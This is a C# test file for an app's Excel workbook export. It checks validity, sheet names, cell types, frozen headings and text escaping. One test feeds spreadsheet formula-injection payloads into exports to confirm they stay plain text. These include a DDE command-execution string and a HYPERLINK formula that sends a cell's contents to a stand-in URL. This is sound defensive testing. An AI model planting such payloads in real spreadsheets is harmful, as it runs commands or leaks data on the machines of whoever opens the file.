using System.Globalization;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using JourneyMapper.Domain.Catalogue;
using JourneyMapper.Domain.Editing;
using JourneyMapper.Testing;
using JourneyMapper.Web.Features.Export.Formats;
using JourneyMapper.Web.Shared;

namespace JourneyMapper.Web.Tests.Features.Export.Formats;

public sealed class WorkbookTests
{
    [Fact]
    public async Task A_workbook_is_sound_and_has_a_sheet_for_each_table()
    {
        using var document = await OpenAsync(Exported.Sample());
        new OpenXmlValidator().Validate(document, TestContext.Current.CancellationToken).Select(error => $"{error.Path?.XPath}: {error.Description}").ShouldBeEmpty();
        document.WorkbookPart!.Workbook!.Sheets!.Elements<Sheet>().Select(sheet => sheet.Name!.Value).ShouldBe(["Touchpoints", "KPIs", "Audits", "Opportunities"]);
        document.PackageProperties.Title.ShouldBe(Exported.Sample().Journey.Title);
    }

    [Fact]
    public async Task Journeys_by_chance_make_sound_workbooks() => await Property.HoldsAsync(async chance =>
    {
        using var document = await OpenAsync(Exported.By(chance));
        new OpenXmlValidator().Validate(document, TestContext.Current.CancellationToken).ShouldBeEmpty();
    }, cases: 10);

    [Fact]
    public async Task Numbers_days_and_percentages_are_what_they_are()
    {
        using var document = await OpenAsync(Exported.Sample());
        var kpis = Rows(document, 1);
        var measured = kpis.Skip(1).First(row => row.Count > 7);
        measured[6].DataType!.Value.ShouldBe(CellValues.Number);
        // 30 November 2026 in Excel's count.
        decimal.Parse(measured[7].CellValue!.Text, CultureInfo.InvariantCulture).ShouldBeInRange(45_000, 46_356);
        Format(document, measured[7]).ShouldBe(14u);
        var percent = kpis.SelectMany(row => row).First(cell => Format(document, cell) == 164);
        decimal.Parse(percent.CellValue!.Text, CultureInfo.InvariantCulture).ShouldBeInRange(0, 1.5m);
        var touchpoints = Rows(document, 0);
        var emotion = touchpoints[0].FindIndex(cell => cell.InnerText == "Emotion");
        var letter = touchpoints[0][emotion].CellReference!.Value!.TrimEnd('1');
        touchpoints.Skip(1).Select(row => row.Find(cell => cell.CellReference!.Value!.TrimEnd("0123456789".ToCharArray()) == letter)!.DataType!.Value).ShouldAllBe(type => type == CellValues.Number);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("=HYPERLINK(\"https://example.org/?\"&A1,\"Click\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    public async Task No_text_becomes_a_formula(string formula)
    {
        using var document = await OpenAsync(Exported.Named(formula));
        document.WorkbookPart!.WorksheetParts.SelectMany(part => part.Worksheet!.Descendants<CellFormula>()).ShouldBeEmpty();
        var cell = Rows(document, 0)[1][1];
        (cell.DataType!.Value, cell.InnerText).ShouldBe((CellValues.InlineString, formula));
        Style(document, cell).QuotePrefix!.Value.ShouldBeTrue();
    }

    [Fact]
    public async Task The_heading_stays_in_sight_and_filters()
    {
        using var document = await OpenAsync(Exported.Named("A", "B"));
        var sheet = document.WorkbookPart!.WorksheetParts.First().Worksheet!;
        sheet.Descendants<Pane>().Single().State!.Value.ShouldBe(PaneStateValues.Frozen);
        sheet.Elements<AutoFilter>().Single().Reference!.Value.ShouldEndWith("3");
        sheet.Elements<Columns>().Single().Elements<Column>().ShouldAllBe(column => column.Width!.Value >= 12);
    }

    [Fact]
    public async Task Texts_that_look_like_escapes_or_hold_what_xml_cannot_stay_texts()
    {
        using var document = await OpenAsync(Exported.Named("_x0041_ \uffff tail"));
        Rows(document, 0)[1][1].InnerText.ShouldBe("_x005F_x0041_  tail");
    }

    [Fact]
    public void Columns_follow_the_fields()
    {
        var table = new JourneyTables(Exported.Sample()).Touchpoints();
        table.Columns.Select(column => column.Heading).ShouldContain(TouchpointFields.Action.Name());
        table.Columns.Count.ShouldBeGreaterThan(TouchpointFields.Set.All.Length / 2);
        table.Rows.ShouldAllBe(row => row.Length == table.Columns.Count);
    }

    static async Task<SpreadsheetDocument> OpenAsync(ExportedJourney exported)
    {
        var file = new MemoryStream();
        await JourneyFormat.All.First(format => format.Extension == "xlsx").WriteAsync(file, exported, TestContext.Current.CancellationToken);
        file.Position = 0;
        return SpreadsheetDocument.Open(file, isEditable: false);
    }

    static List<List<Cell>> Rows(SpreadsheetDocument document, int sheet)
    {
        var id = document.WorkbookPart!.Workbook!.Sheets!.Elements<Sheet>().ElementAt(sheet).Id!.Value!;
        return [.. ((WorksheetPart)document.WorkbookPart.GetPartById(id)).Worksheet!.Descendants<Row>().Select(row => row.Elements<Cell>().ToList())];
    }

    static CellFormat Style(SpreadsheetDocument document, Cell cell) =>
        document.WorkbookPart!.WorkbookStylesPart!.Stylesheet!.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));

    static uint Format(SpreadsheetDocument document, Cell cell) => Style(document, cell).NumberFormatId?.Value ?? 0;
}
